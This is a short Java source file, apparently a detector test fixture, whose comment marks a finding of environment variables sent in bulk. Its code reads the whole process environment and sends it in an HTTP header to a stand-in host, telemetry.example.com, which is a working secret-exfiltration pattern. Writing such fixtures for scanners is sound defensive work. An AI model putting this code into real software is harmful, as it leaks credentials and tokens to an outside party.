import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;

/** The whole environment goes into a header. */
public class Flagged {
    public static void main(String[] arguments) throws IOException {
        HttpURLConnection connection = connection();
        connection.setRequestProperty("X-Environment", System.getenv().toString()); // finding: environment-variables-sent-in-bulk, form plain
        connection.getInputStream().close();
    }

    private static HttpURLConnection connection() throws IOException {
        return (HttpURLConnection) new URL("https://telemetry.example.com/v1").openConnection();
    }
}
